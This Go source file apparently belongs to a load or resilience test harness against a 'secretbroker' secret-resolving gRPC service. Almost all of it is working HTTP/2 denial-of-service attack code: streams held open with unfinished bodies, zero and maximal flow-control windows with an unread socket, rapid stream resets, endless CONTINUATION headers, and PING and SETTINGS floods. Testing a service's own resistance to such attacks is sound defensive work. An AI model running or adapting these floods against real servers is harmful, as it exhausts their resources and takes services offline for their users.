package main

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strings"
	"time"

	"golang.org/x/net/http2"

	secretbrokerv1 "github.com/secretbroker/secretbroker/gen/secretbroker/v1"
)

// reconnect is the pause before an attacker connects again.
const reconnect = 20 * time.Millisecond

// attackUnfinished keeps calls open whose requests never end: 256 on one connection, with
// eight bytes of a message of 1 MiB each.
func attackUnfinished(ctx context.Context, a *attacker) {
	body := message(1<<20, []byte{0, 0, 0})
	again(ctx, reconnect, func() {
		if c, err := a.connect(ctx, preface{}); err == nil {
			a.hold(ctx, c, 256, 1000, body, false)
		}
	})
}

// large returns a request for one secret of 200 kB 128 times: 25 MB.
func (a *attacker) large() []byte {
	req := &secretbrokerv1.ResolveRequest{IntegrationId: a.Integration, Configs: make(map[string]string)}
	for i := range 128 {
		req.Configs[fmt.Sprint("config.", i)] = a.Reference
	}
	return request(req)
}

// attackUntaken sets HTTP/2 windows of 0 bytes, so that no answer can be sent.
func attackUntaken(ctx context.Context, a *attacker) {
	body := a.large()
	again(ctx, reconnect, func() {
		if c, err := a.connect(ctx, preface{settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}}); err == nil {
			a.hold(ctx, c, 60, 50, body, true)
		}
	})
}

// attackDeaf sets the largest HTTP/2 windows and never reads the socket.
func attackDeaf(ctx context.Context, a *attacker) {
	const largest = 1<<31 - 1
	body := a.large()
	deaf := func(int) {
		c, err := a.connect(ctx, preface{[]http2.Setting{{ID: http2.SettingInitialWindowSize, Val: largest}}, largest - 65535})
		if err != nil {
			return
		}
		defer c.tls.Close()
		for range 60 {
			c.call(body, true)
		}
		a.counts.add("calls opened", 60)
		for c.flush() == nil && ctx.Err() == nil { // fails when the broker has closed the connection
			pause(ctx, 100*time.Millisecond)
			_ = c.fr.WritePing(true, [8]byte{})
		}
	}
	each(2, func(i int) { again(ctx, reconnect, func() { deaf(i) }) })
}

// attackReset opens calls and resets them at once, on six connections.
func attackReset(ctx context.Context, a *attacker) {
	body := request(&secretbrokerv1.ResolveRequest{IntegrationId: a.Integration, Configs: map[string]string{"password": a.Reference}})
	each(6, func(int) {
		a.flood(ctx, "calls reset", func(c *http2Conn) {
			stream := c.call(body, true)
			_ = c.fr.WriteRSTStream(stream, http2.ErrCodeCancel)
		})
	})
}

// flood writes to connections without end, and reads all answers.
func (a *attacker) flood(ctx context.Context, what string, write func(c *http2Conn)) {
	again(ctx, reconnect, func() {
		c, err := a.connect(ctx, preface{})
		if err != nil {
			return
		}
		defer c.tls.Close()
		go c.read() // until the connection ends
		const batch = 64
		for ctx.Err() == nil {
			c.mu.Lock()
			for range batch {
				write(c)
			}
			err := c.flush()
			c.mu.Unlock()
			if err != nil {
				return
			}
			a.counts.add(what, batch)
		}
	})
}

// attackContinuation sends headers that never end.
func attackContinuation(ctx context.Context, a *attacker) {
	// A header that is not indexed, 8 KiB of it in each frame.
	part := []byte("\x00\x01a\x7f\x81\x3f" + strings.Repeat("a", 8192))
	again(ctx, reconnect, func() {
		c, err := a.connect(ctx, preface{})
		if err != nil {
			return
		}
		defer c.tls.Close()
		go c.read() // until the connection ends
		c.mu.Lock()
		defer c.mu.Unlock()
		_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers(secretbrokerv1.ResolverService_Resolve_FullMethodName)})
		for c.flush() == nil && ctx.Err() == nil {
			_ = c.fr.WriteContinuation(1, false, part)
			a.counts.add("CONTINUATION frames", 1)
		}
	})
}

// attackPing sends PING frames, which must be acknowledged.
func attackPing(ctx context.Context, a *attacker) {
	each(2, func(int) {
		a.flood(ctx, "PING frames", func(c *http2Conn) { _ = c.fr.WritePing(false, [8]byte{1}) })
	})
}

// attackSettings sends SETTINGS frames, which must be acknowledged. They include the size of
// the compression table.
func attackSettings(ctx context.Context, a *attacker) {
	each(2, func(int) {
		a.flood(ctx, "SETTINGS frames", func(c *http2Conn) {
			_ = c.fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: rand.Uint32N(64 << 10)},
				http2.Setting{ID: http2.SettingInitialWindowSize, Val: rand.Uint32N(1 << 20)})
		})
	})
}
